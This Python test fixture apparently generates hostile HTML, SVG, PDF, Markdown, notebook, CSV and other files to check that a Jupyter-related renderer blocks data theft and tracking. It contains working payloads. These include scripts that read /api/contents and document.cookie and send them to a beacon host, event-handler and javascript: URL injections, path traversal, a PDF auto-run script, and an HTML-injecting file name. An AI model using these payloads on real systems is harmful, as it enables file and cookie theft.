"""Files of every kind that try to get at Jupyter, or to tell somebody that they are looked at."""

import json
import zlib

from tests.core.rendering.examples import code_cell, notebook, output

API = "/api/contents"


def script(beacon):
    return (
        f"fetch('{API}').then(r=>r.text()).then(t=>fetch('{beacon}/stolen?'+t));"
        f"new Image().src='{beacon}/cookie?'+document.cookie;"
        f"navigator.sendBeacon('{beacon}/sent');"
        f"try{{top.location='{beacon}/top'}}catch(e){{location='{beacon}/here'}}"
    )


def markup(beacon):
    """Everything by which HTML loads something or goes somewhere, with and without scripts."""
    run = script(beacon)
    return f"""
<script>{run}</script><script src="{beacon}/s.js"></script><img src=x onerror="{run}">
<img src="{API}"><img src="../../../../../../../..{API}"><img src="%2e%2e/%2e%2e/..{API}">
<img src="{beacon}/i.png" srcset="{beacon}/j.png 2x"><picture><source srcset="{beacon}/k"></picture>
<iframe src="{API}"></iframe><iframe srcdoc="<script>{run}</script>"></iframe>
<object data="{API}"></object><embed src="{API}"><video src="{API}" poster="{beacon}/p" autoplay>
</video><audio src="{beacon}/a" autoplay></audio><link rel="stylesheet" href="{beacon}/c.css">
<link rel="prefetch" href="{API}"><link rel="dns-prefetch" href="{beacon}">
<meta http-equiv="refresh" content="0;url={API}"><base href="{beacon}/">
<style>@import "{beacon}/i.css";body{{background:url({beacon}/b)}}</style>
<p style="background:url({beacon}/q)">styled</p>
<form action="{API}" id="f"><button autofocus onfocus="{run}">press</button></form>
<details open ontoggle="{run}"><summary>open</summary></details>
<svg onload="{run}"><script>{run}</script><image href="{API}"/></svg>
<a href="javascript:{run}">one</a> <a href="data:text/html,<script>{run}</script>">two</a>
<a href="{API}">three</a> <a href="../../../../../..{API}">four</a> <a href="//{API}">five</a>
<a href="page.html" ping="{beacon}/ping">six</a> <a href="drawing.svg">seven</a>
<math><mtext><table><mglyph><style><img src=x onerror="{run}"></style></table></math>
"""


def html(beacon):
    return f'<!DOCTYPE html><html><head><title>x</title></head><body onload="{script(beacon)}">\
{markup(beacon)}</body></html>'


def svg(beacon):
    return f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"
 width="200" height="200" onload="{script(beacon)}"><script>{script(beacon)}</script>
<script href="{beacon}/s.js"/><style>@import "{beacon}/i.css";</style>
<image href="{API}" width="9" height="9"/><image x:href="{beacon}/i.png" width="9" height="9"/>
<use href="{API}#a"/><foreignObject width="100" height="100"><iframe
 xmlns="http://www.w3.org/1999/xhtml" src="{API}"/></foreignObject>
<a href="javascript:{script(beacon)}"><circle cx="100" cy="100" r="60" fill="teal"/></a>
<animate attributeName="href" values="{beacon}/an"/></svg>""".replace("&", "&amp;")


def pdf(beacon):
    """Runs a script when it is opened, sends a form, and goes to an address."""
    run = (
        f"this.submitForm('{beacon}/form'); app.launchURL('{beacon}/launch', true);"
        f"this.getURL('{beacon}/get'); app.alert('x');"
    )
    objects = [
        "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS("
        + run.replace("(", r"\(").replace(")", r"\)")
        + f")/Next<</S/URI/URI({beacon}/uri)>>>>>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R"
        f"/AA<</O<</S/URI/URI({beacon}/o)>>>>>>",
    ]
    drawing = zlib.compress(b"0 0.5 0.5 rg 40 40 120 120 re f")
    parts = [f"{number} 0 obj\n{text}\nendobj\n".encode() for number, text in enumerate(objects, 1)]
    parts.append(
        f"4 0 obj\n<</Length {len(drawing)}/Filter/FlateDecode>>\nstream\n".encode()
        + drawing
        + b"\nendstream\nendobj\n"
    )
    body, places = b"%PDF-1.7\n", []
    for part in parts:
        places.append(len(body))
        body += part
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    return (
        body
        + (
            f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n{table}"
            f"trailer\n<</Size {len(places) + 1}/Root 1 0 R>>\nstartxref\n{len(body)}\n%%EOF\n"
        ).encode()
    )


def markdown(beacon):
    return f"""# Attack

![a]({API}) ![b](../../../../../../..{API}) ![c]({beacon}/md.png) [d](javascript:{script(beacon)})
[e]({API}) [f](../../../../../..{API}) [g](page.html) ![h](drawing.svg)

{markup(beacon)}
"""


def evil_notebook(beacon):
    return notebook(
        {"cell_type": "markdown", "metadata": {}, "source": markdown(beacon)},
        code_cell(
            "1",
            output(**{"text/html": markup(beacon)}),
            output(**{"image/svg+xml": svg(beacon)}),
            output(**{"application/javascript": script(beacon)}),
            output(**{"text/markdown": markdown(beacon)}),
            {"output_type": "stream", "name": "stdout", "text": markup(beacon)},
        ),
    )


def attacks(beacon):
    """Name each file and give its bytes."""
    found = {
        "page.html": html(beacon),
        "page.xhtml": html(beacon),
        "drawing.svg": svg(beacon),
        "paper.pdf": pdf(beacon),
        "words.md": markdown(beacon),
        "work.ipynb": evil_notebook(beacon),
        "table.csv": f'name,value\n"{markup(beacon).replace(chr(34), chr(39))}",=HYPERLINK(1)\n',
        "data.json": json.dumps({"</script>" + markup(beacon): [markup(beacon)]}),
        "code.js": script(beacon),
        "style.css": f'@import "{beacon}/i.css";',
        "plain": markup(beacon),
        '"><img src=x onerror=alert(1)>.txt': "name",
    }
    return {
        name: data if isinstance(data, bytes) else data.encode() for name, data in found.items()
    }
